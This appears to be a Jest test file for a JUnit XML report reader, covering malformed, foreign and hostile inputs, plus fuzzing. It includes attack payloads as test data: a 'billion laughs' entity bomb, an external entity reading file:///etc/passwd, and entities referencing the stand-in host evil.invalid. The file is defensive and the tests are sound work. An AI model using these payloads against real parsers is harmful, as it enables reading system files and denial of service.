/** Reports that are broken, foreign or hostile. */
import { expect, test } from '@jest/globals';
import fc from 'fast-check';
import { readReport } from '../../../../src/read/test-reports/report.ts';
import { TestTally } from '../../../../src/read/test-reports/tally.ts';
import { passedCase, read, readChunks, suite } from './reading.ts';

const laughs = `<!DOCTYPE testsuite [
  <!ENTITY a "ha">
  <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
]>
<testsuite><testcase name="&b;"/></testsuite>`;

/** `place` is line:column. */
test.each<[name: string, content: string, place: string, words: string | RegExp, cases: number]>([
  ['an empty file', '', '', 'is empty', 0],
  ['white space', ' \n\n ', '3:1', 'ends before its first element', 0],
  ['a declaration alone', '<?xml version="1.0"?>', '1:21', 'ends before its first element', 0],
  ['an error message', 'No such file or directory', '1:1', 'is not XML, it begins with "No such file or directory"', 0],
  ['JSON', '\n{"tests": []}', '1:1', 'is not XML, it begins with "{\\"tests\\": []}"', 0],
  ['words far behind white space', `${' '.repeat(999)}hello`, '1:1', 'is not XML, it begins with "h"', 0],
  ['half a report', `<testsuite>\n${passedCase}<testcase`, '2:40', 'is not complete, it ends inside of <testsuite>', 1],
  ['half an output', `<testsuite><system-out>abc`, '1:26', 'is not complete, it ends inside of <system-out>', 0],
  ['half a comment at the end', `${suite(passedCase)}<!-- `, '1:68', 'is broken XML: unexpected end', 1],
  ['a wrong end', `<testsuite>\n${passedCase}</testcase>`, '2:42', 'is broken XML: unexpected close tag', 1],
  [
    'a lonely &',
    suite(passedCase, '<testcase name="a & b"/>'),
    '1:71',
    /^is broken XML: invalid character in entity/,
    1,
  ],
  ['an unknown entity', suite(passedCase, '&nbsp;'), '1:57', 'is broken XML: invalid character entity', 1],
  ['a value without quotes', '<testsuite name=s/>', '1:17', 'is broken XML: unquoted attribute value', 0],
  ['text behind the end', `${suite(passedCase)}\nbye`, '2:1', 'is broken XML: text data outside of root node', 1],
  ['two reports in one file', suite(passedCase).repeat(2), '1:83', /^has a second root element/, 1],
  [
    'coverage',
    '<coverage line-rate="1"/>',
    '1:25',
    /^is no JUnit report: its root is <coverage>, not <testsuites> or/,
    0,
  ],
  ['a page', '<!DOCTYPE html><html></html>', '1:21', /^is no JUnit report: its root is <html>/, 0],
  ['no test cases', '<testsuites><testsuite tests="3"/></testsuites>', '', 'holds no test cases', 0],
  ['the billion laughs', laughs, '4:2', 'declares XML entities, which are never expanded here', 0],
  [
    'an external entity',
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><testsuite><testcase name="&x;"/></testsuite>',
    '1:54',
    'declares XML entities, which are never expanded here',
    0,
  ],
  [
    'a parameter entity',
    '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.invalid/x.dtd"> %x;]><testsuite/>',
    '1:67',
    'declares XML entities, which are never expanded here',
    0,
  ],
  [
    'an endless doctype',
    `<!DOCTYPE a [${'<!ELEMENT a ANY>'.repeat(9999)}]>`,
    '1:81920',
    'has a name or declaration of more than 64 KB',
    0,
  ],
  [
    'an unknown encoding',
    '<?xml version="1.0" encoding="EBCDIC-7"?><testsuite/>',
    '',
    /^is written in the encoding "EBCDIC-7"/,
    0,
  ],
  ['endless nesting', `<testsuite>${'<a>'.repeat(300)}`, '1:611', 'nests more than 200 elements into each other', 0],
  [
    'endless attributes',
    `<testsuite ${Array.from({ length: 2000 }, (_, index) => `a${index}=""`).join(' ')}/>`,
    '1:7909',
    'has more than 1000 attributes in one element',
    0,
  ],
])('%s', async (_, content, place, words, cases) => {
  const { faults, counts } = await read(content);
  const [line, column] = place.split(':').map(Number);
  expect(faults).toEqual([
    {
      file: 'report.xml',
      position: place === '' ? undefined : { line, column },
      message: typeof words === 'string' ? words : expect.stringMatching(words),
    },
  ]);
  expect(counts.total).toBe(cases);
});

test('a document type without entities is passed over, and nothing is fetched for it', async () => {
  const { faults, counts } = await read(
    `<!DOCTYPE testsuite SYSTEM "http://evil.invalid/junit.dtd">${suite(passedCase)}`,
  );
  expect(faults).toEqual([]);
  expect(counts.total).toBe(1);
});

test('an entity in a comment of the document type is none', async () => {
  const { faults } = await read(`<!DOCTYPE a [<!-- <!ENTITY a "b"> --><!ELEMENT a ANY>]>${suite(passedCase)}`);
  expect(faults).toEqual([]);
});

test('names of JavaScript are attributes like others', async () => {
  const names = ['__proto__', 'constructor', 'hasOwnProperty', 'toString'].map((name) => `${name}="x"`).join(' ');
  const { faults, counts } = await read(suite(`<testcase ${names} hasOwnProperty="y" name="a"/>`));
  expect(faults).toEqual([]);
  expect(counts.total).toBe(1);
});

test('the fault of one report leaves the others as they are', async () => {
  const { faults, counts } = await read(suite(passedCase), 'nothing', suite(passedCase));
  expect(faults).toHaveLength(1);
  expect(counts.total).toBe(2);
});

test('an error of the file itself is not a fault of its text', async () => {
  // biome-ignore lint/correctness/useYield: it fails before it gives anything
  async function* failing(): AsyncGenerator<Uint8Array> {
    throw new Error('EIO');
  }
  await expect(readReport('a.xml', failing(), new TestTally())).rejects.toThrow('EIO');
});

const arbitraryReport = fc
  .array(
    fc.oneof(
      fc.constantFrom(
        ...['<testsuite', '<testcase', '<failure', '</testcase>', '</testsuite>', '>', '/>', ' name="', ' file="', '"'],
        ...[
          '<![CDATA[',
          ']]>',
          '<!--',
          '-->',
          '<!DOCTYPE a [',
          '<!ENTITY b "c">',
          ']>',
          '&amp;',
          '&#0;',
          '&#x1b;',
          '&b;',
        ],
        ...[
          '<?xml version="1.0" encoding="',
          '"?>',
          'at a.b.C.d(C.java:1)',
          'File "a.py", line 2',
          '\n',
          '\ufeff',
          '\0',
        ],
      ),
      fc.string({ unit: 'binary' }),
    ),
    { maxLength: 40 },
  )
  .map((parts) => new TextEncoder().encode(parts.join('')));

test('no bytes at all can make it throw', async () => {
  const bytes = fc.oneof(fc.uint8Array({ maxLength: 600 }), arbitraryReport);
  await fc.assert(
    fc.asyncProperty(fc.constantFrom('', '<testsuite>'), bytes, async (beginning, content) => {
      const { counts, faults } = await readChunks([beginning, content]);
      expect(counts.total).toBe(counts.passed + counts.failed + counts.skipped);
      expect(counts.total + faults.length).toBeGreaterThan(0);
    }),
    { numRuns: 2000 },
  );
});

test('where the chunks end changes nothing', async () => {
  const report = new TextEncoder().encode(
    `<?xml version="1.0"?>${suite('<testcase name="Grüße 🎈"><failure message="a &lt; b">x<![CDATA[]]]]>y</failure></testcase>', passedCase)}`,
  );
  const whole = await read(report);
  await fc.assert(
    fc.asyncProperty(fc.array(fc.nat(report.length), { maxLength: 8 }), async (cuts) => {
      const ends = [...cuts.toSorted((a, b) => a - b), report.length];
      const parts = ends.map((end, index) => report.subarray(ends[index - 1] ?? 0, end));
      expect(await readChunks(parts)).toEqual(whole);
    }),
  );
});
